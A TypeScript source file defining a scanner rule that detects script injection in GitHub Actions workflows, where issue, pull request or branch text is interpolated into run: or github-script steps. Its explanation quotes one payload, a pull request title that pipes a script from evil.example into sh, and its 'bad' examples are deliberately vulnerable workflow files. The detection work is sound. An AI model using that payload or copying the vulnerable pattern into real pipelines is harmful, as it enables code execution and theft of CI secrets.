import { isRecord } from '../../../iac/kubernetes/parse.js';
import { expressionsIn, inputName, taintOf } from '../expressions.js';
import { GHA_DOCS, type GhaRule } from '../gha-rule.js';
import { stepEnvironment, type Workflow, type WorkflowStep } from '../workflow.js';

/** Input types whose values GitHub checks before the run starts, so they cannot carry shell syntax. */
const TYPED_INPUTS = new Set(['boolean', 'number', 'choice']);

export const ghaScriptInjection: GhaRule = {
  id: 'gha.script-injection',
  title: 'Untrusted value interpolated into a workflow script',
  category: 'iac',
  severity: 'high',
  confidence: 'high',
  cwe: ['CWE-78', 'CWE-94'],
  what:
    'Finds `${{ … }}` expressions in a step’s `run:` script, or in the `script:` input of `actions/github-script`, that read ' +
    'text an outsider writes: issue, pull request, comment, review and discussion titles and bodies, branch names ' +
    '(`github.head_ref`, `…pull_request.head.ref`), commit messages and authors, wiki page names, and the same through ' +
    '`workflow_run`, also through `${{ env.NAME }}` when the workflow, job or step set NAME from one. Whitespace and ' +
    'functions around the reference (`toJSON(…)`, `format(…)`) do not hide it. Workflow ' +
    '`inputs.*` / `github.event.inputs.*` are reported with medium severity, since only people with write access (or a ' +
    'calling workflow) set them; inputs declared `boolean`, `number` or `choice` are skipped.',
  why:
    'GitHub pastes the expression’s value into the script text before the shell (or Node) runs it, so quoting in the ' +
    'script does not help: a pull request titled `x"; curl https://evil.example/x | sh; #` runs the attacker’s command ' +
    'in the job, with its token and whatever secrets deploy the pipeline’s DAGs, dbt models or images.',
  remediation:
    'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` ' +
    'and `run: echo "$TITLE"` (in github-script, read `process.env.TITLE` or `context.payload`).',
  bad: [
    {
      file: '.github/workflows/triage.yml',
      code:
        'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "New issue: ${{ github.event.issue.title }}"\n',
    },
    {
      file: '.github/workflows/pr.yml',
      code:
        'on: pull_request_target\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n' +
        '        with:\n          script: |\n            console.log("${{ toJSON(github.event.pull_request.body) }}")\n',
    },
  ],
  good: [
    {
      file: '.github/workflows/triage.yml',
      code:
        'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n' +
        '        run: echo "New issue #${{ github.event.issue.number }}: $TITLE"\n',
    },
    {
      file: '.github/workflows/deploy.yml',
      code:
        'on:\n  workflow_dispatch:\n    inputs:\n      dry_run:\n        type: boolean\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n' +
        '      - run: ./deploy.sh --dry-run=${{ inputs.dry_run }} --sha ${{ github.sha }}\n',
    },
  ],
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    `${GHA_DOCS}#jobsjob_idstepsrun`,
    'https://cwe.mitre.org/data/definitions/78.html',
  ],
  check(ctx) {
    const typed = typedInputs(ctx.workflow);
    const untrusted = (reference: string): boolean => {
      const input = inputName(reference);
      return taintOf(reference) !== undefined && !(input !== undefined && typed.has(input));
    };
    for (const job of ctx.workflow.jobs) {
      for (const step of job.steps) {
        const script = scriptOf(step);
        if (!script) continue;
        const env = stepEnvironment(ctx.workflow, job, step);
        const reported = new Set<string>();
        for (const expression of expressionsIn(script.text)) {
          // `${{ env.TITLE }}` pastes what TITLE was set to as surely as the expression itself would.
          const sources = expression.references.flatMap((r) => {
            const variable = /^env\.([^.]+)$/.exec(r)?.[1];
            const definition = variable === undefined ? undefined : env.get(variable);
            return definition === undefined ? [r] : expressionsIn(definition).flatMap((e) => e.references);
          });
          const tainted = sources.filter(untrusted);
          if (tainted.length === 0 || reported.has(expression.raw)) continue;
          reported.add(expression.raw);
          const outsider = tainted.some((r) => taintOf(r) === 'outsider');
          const via = tainted.some((t) => !expression.references.includes(t)) ? ` (set from ${tainted.join(', ')})` : '';
          ctx.reportText(script.path, expression.raw, {
            severity: outsider ? 'high' : 'medium',
            message: `Step ${step.label} of job "${job.id}" interpolates ${expression.raw.replace(/\s+/g, ' ')}${via} into its ${script.where}: ${writerOf(tainted)}, pasted into the script before it runs`,
          });
        }
      }
    }
  },
};

/** Who writes the values: the worst of them. */
function writerOf(references: string[]): string {
  if (references.some((r) => /\.(issue|pull_request|comment|review|review_comment|discussion)\./.test(r) || r === 'github.head_ref')) {
    return 'text anyone who opens an issue or pull request can write';
  }
  if (references.some((r) => taintOf(r) === 'outsider')) return 'text whoever pushes the commit or names the branch writes';
  return 'a workflow input, set by whoever dispatches or calls the workflow';
}

/** The text GitHub substitutes expressions into and then executes: `run:`, or github-script's `script:`. */
function scriptOf(step: WorkflowStep): { text: string; path: readonly (string | number)[]; where: string } | undefined {
  if (typeof step.data['run'] === 'string') return { text: step.data['run'], path: [...step.path, 'run'], where: 'run script' };
  const uses = step.data['uses'];
  const script = isRecord(step.data['with']) ? step.data['with']['script'] : undefined;
  if (typeof uses === 'string' && /^actions\/github-script@/i.test(uses.trim()) && typeof script === 'string') {
    return { text: script, path: [...step.path, 'with', 'script'], where: 'github-script script' };
  }
  return undefined;
}

/** Inputs declared with a type GitHub validates, under workflow_dispatch or workflow_call; a name declared as a string anywhere stays untyped. */
function typedInputs(workflow: Workflow): Set<string> {
  const on = workflow.data['on'];
  const typed = new Set<string>();
  const loose = new Set<string>();
  for (const event of ['workflow_dispatch', 'workflow_call']) {
    const inputs = isRecord(on) && isRecord(on[event]) ? on[event]['inputs'] : undefined;
    if (!isRecord(inputs)) continue;
    for (const [name, spec] of Object.entries(inputs)) {
      const type = isRecord(spec) ? spec['type'] : undefined;
      (typeof type === 'string' && TYPED_INPUTS.has(type) ? typed : loose).add(name.toLowerCase());
    }
  }
  return new Set([...typed].filter((name) => !loose.has(name)));
}
